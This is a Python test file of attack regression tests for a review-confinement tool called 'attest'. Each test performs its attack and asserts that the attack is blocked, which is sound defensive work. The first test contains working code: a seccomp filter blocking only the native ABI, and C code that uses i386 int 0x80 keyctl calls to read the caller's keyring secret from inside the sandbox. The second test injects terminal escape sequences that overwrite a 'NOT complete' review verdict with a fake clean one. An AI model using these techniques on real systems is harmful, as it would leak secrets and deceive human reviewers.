"""Second attack review of the reviewer's session (64c635f): each test performs the attack end to end.

Each test asserts the SECURE behaviour, so it fails while the attack works.
"""

# The bootstrap fixtures (dep, skill) are imported from test_bootstrap, so their parameters shadow the imports.

from __future__ import annotations

import json
import os
import secrets
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from test_bootstrap import Deployment, make_consumer, run

PY = sys.executable
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def handoff(dep: Deployment, skill: tuple[Path, Path], tmp_path: Path) -> Path:
    c = make_consumer(tmp_path / "consumer", dep.sha)
    return Path(run(dep, skill, c, tmp_path).handoff)


# -- one ABI's keyctl refused to attest: "nothing is inherited", yet the reviewer inherits the caller's keyring ------------

# attest._session.keyring_errno asks the kernel with ONE system-call ABI (the native x86-64 keyctl). Where that fails
# (ENOSYS/EPERM: "keyrings compiled out or refused to attest itself") child_setup returns a no-op: the reviewer joins no
# new session keyring and gets no filter, and the record says "none ... none is inherited or reachable". A filter of
# the caller's (a container's, a service manager's) that refuses the native keyctl but not the i386 one (int 0x80),
# which the kernel still serves, leaves the caller's session keyring to the reviewer: it reads the key through
# int 0x80 with a program it compiles itself with the host's gcc (the system paths are in its root).
_CALLER = r"""
import ctypes, os, sys
from attest._session import _ABIS, _PR_SET_SECCOMP, _SECCOMP_MODE_FILTER, _SockFilter, _SockFprog, keyring_filter
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
if libc.syscall(250, 1, b"attest-attack-session") < 0:  # KEYCTL_JOIN_SESSION_KEYRING: a fresh one, the host's untouched
    sys.exit("cannot join a session keyring")
secret = os.environ.pop("ATK_SECRET").encode()
if libc.syscall(248, b"user", b"attest-attack-secret", secret, len(secret), -3) < 0:  # add_key to @s
    sys.exit("cannot add the key")
# The caller's own filter: the native ABI's keyring calls refused (ENOSYS), nothing else.
insns = keyring_filter(_ABIS["x86_64"][:1])
table = (_SockFilter * len(insns))(*(_SockFilter(*i) for i in insns))
prog = _SockFprog(len(insns), table)
libc.prctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_ulong]
if os.geteuid() != 0 and libc.prctl(38, 1, None, 0, 0) != 0:  # PR_SET_NO_NEW_PRIVS: what a filter needs without root
    sys.exit("cannot set no_new_privs: errno %d" % ctypes.get_errno())
if libc.prctl(_PR_SET_SECCOMP, _SECCOMP_MODE_FILTER, ctypes.addressof(prog), 0, 0) != 0:
    sys.exit("cannot install the caller's filter: errno %d" % ctypes.get_errno())
os.execv(sys.executable, [sys.executable, *sys.argv[1:]])
"""

_I386_KEYCTL = r"""
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
static long k32(long a, long b, long c, long d) {
    long r;
    __asm__ volatile ("int $0x80" : "=a"(r) : "a"(288L), "b"(a), "c"(b), "d"(c), "S"(d), "D"(0L)
                      : "r8", "r9", "r10", "r11", "memory");
    return r;
}
int main(void) {
    char *m = mmap(0, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    strcpy(m, "user"); strcpy(m + 16, "attest-attack-secret");
    long key = k32(10, -3, (long)m, (long)(m + 16));  /* KEYCTL_SEARCH the session keyring */
    if (key < 0) { printf("search errno %ld", -key); return 0; }
    long n = k32(11, key, (long)(m + 1024), 4096);   /* KEYCTL_READ */
    if (n < 0) { printf("read errno %ld", -n); return 0; }
    fwrite(m + 1024, 1, n, stdout);
    return 0;
}
"""

_REVIEWER = r"""
cd "$TMPDIR" && printf '%s' "$1" > k.c && gcc -o k k.c >&2 && got=$(./k) || got="no compiler: $?"
printf '{"complete": false, "limitations": ["keyring: %s"], "findings": []}' "$got"
"""


@pytest.mark.skipif(os.uname().machine != "x86_64" or shutil.which("gcc") is None,
                    reason="the reviewer compiles an int 0x80 keyctl with the host's gcc")
def test_attack_a_caller_filter_on_one_abi_makes_attest_skip_the_keyring_join_and_filter(
        dep: Deployment, handoff: Path, tmp_path: Path) -> None:
    secret = "attest-keyring-secret-" + secrets.token_hex(12)
    out = tmp_path / "result.json"
    proc = subprocess.run([PY, "-c", _CALLER, "-m", "attest", "review", "exec", "--handoff", str(handoff), "--policy",
                           str(dep.trust), "--state-dir", str(dep.state), "-o", str(out), "--json", "--",
                           "/bin/sh", "-c", _REVIEWER, "reviewer", _I386_KEYCTL],
                          capture_output=True, cwd=ROOT, env={**os.environ, "ATK_SECRET": secret}, check=False, timeout=600)
    assert proc.returncode == 0, proc.stderr.decode()[-3000:]
    doc = json.loads(proc.stdout)
    assert doc["confinement"]["confined"] is True
    result = out.read_text()
    assert "no compiler" not in result, result  # the attack ran
    assert secret not in result, ("the confined reviewer read the caller's session keyring through the i386 keyctl; attest "
                                  f"recorded: {doc['confinement'].get('keyring')!r}; result: {result}")


# -- the reviewer's text reaches the operator's terminal raw ----------------------------------------------------------------

# 64c635f relays the reviewer's stderr with control characters neutralized on a terminal ("controls neutralized
# on a terminal"), so it cannot drive the operator's terminal with escape sequences. The result it prints is
# reviewer text too: `attest review exec` (without --json) prints each limitation as it is, so the same sequences reach
# the terminal through attest's own stdout: here one erases attest's "NOT complete, 1 blocking" line and writes a clean
# one in its place, and sets the terminal's title (OSC), a sequence terminals act on.
_SPOOF = "\r\x1b[1A\x1b[2KREVIEWED acme/widgets: complete, 0 finding(s), 0 blocking\x1b]0;owned\x07"
_SPOOFER = r"""
printf '%s' "$1"
"""


def test_attack_the_reviewers_limitations_drive_the_operators_terminal(dep: Deployment, handoff: Path, tmp_path: Path) -> None:
    import pty

    from attest.review.handoff import parse_result

    result = {"complete": False, "limitations": [_SPOOF],
              "findings": [{"id": "F1", "severity": "high", "blocking": True, "message": "must not merge"}]}
    parse_result(json.dumps({**result, "limitations": ["plain"]}).encode())  # the shape is right: only the text is hostile
    master, slave = pty.openpty()
    try:
        proc = subprocess.Popen([PY, "-m", "attest", "review", "exec", "--handoff", str(handoff), "--policy", str(dep.trust),
                                 "--state-dir", str(dep.state), "-o", str(tmp_path / "result.json"), "--",
                                 "/bin/sh", "-c", _SPOOFER, "reviewer", json.dumps(result)],
                                stdout=slave, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, cwd=ROOT)
        os.close(slave)
        slave = -1
        shown = b""
        while True:
            try:
                chunk = os.read(master, 65536)
            except OSError:
                break
            if not chunk:
                break
            shown += chunk
        err = proc.communicate(timeout=600)[1]
    finally:
        if slave >= 0:
            os.close(slave)
        os.close(master)
    if proc.returncode != 0 and b"REVIEW_RESULT_INVALID" in err:
        return  # refused: a result whose text holds control characters (also a secure outcome)
    assert proc.returncode == 0, err.decode()[-3000:]
    assert b"NOT complete" in shown, shown
    assert b"\x1b" not in shown, ("attest printed the reviewer's escape sequences to the operator's terminal (its stderr "
                                  f"relay neutralizes them, its own output does not): {shown!r}")
